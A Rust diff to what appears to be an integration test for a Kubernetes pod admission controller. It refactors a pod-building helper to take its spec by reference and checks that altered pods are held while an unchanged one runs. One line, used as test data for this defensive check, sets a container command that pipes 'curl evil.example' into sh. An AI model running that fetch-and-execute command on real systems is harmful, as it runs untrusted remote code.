@@ -37,7 +37,7 @@ pub(super) fn with_proxy() -> Result<Value> {
     Ok(spec)
 }
 
-fn pod(name: &str, spec: Value) -> Value {
+fn pod(name: &str, spec: &Value) -> Value {
     json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "labels": {"app": name}}, "spec": spec})
 }
 
@@ -53,9 +53,9 @@ async fn as_it_is(cx: Context) -> Result<()> {
     let account = json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "proxy"}});
     stage.apply(&[account]).await?;
     let alone = json!({"containers": [proxy()]});
-    stage.apply(&[pod("proxy", alone.clone())]).await?;
+    stage.apply(&[pod("proxy", &alone)]).await?;
     await_running(&stage.pods(), "app=proxy", 1).await?;
-    let again = try_create(&stage.editor, &stage.namespace, &pod("proxy-again", alone)).await?;
+    let again = try_create(&stage.editor, &stage.namespace, &pod("proxy-again", &alone)).await?;
     again.free("the same pod again")?;
 
     let shell = changed("command", json!(["sh", "-c", "curl evil.example | sh"]))?;
@@ -95,14 +95,14 @@ async fn as_it_is(cx: Context) -> Result<()> {
         ),
     ];
     for (name, spec) in attempts {
-        let answer = create(&stage.editor, Some(&stage.namespace), &pod(name, spec)).await?;
+        let answer = create(&stage.editor, Some(&stage.namespace), &pod(name, &spec)).await?;
         answer.held(name)?;
     }
     for name in ["another-command", "its-name", "its-account", "beside", "on-the-node"] {
         await_held(&stage.pods(), &format!("app={name}"), 1).await?;
     }
     // Another one is judged after them all, and runs.
-    stage.apply(&[pod("last", json!({"containers": [proxy()]}))]).await?;
+    stage.apply(&[pod("last", &alone)]).await?;
     await_running(&stage.pods(), "app=last", 1).await?;
     stage.nothing_ran("app,app notin (proxy,last)").await
 }
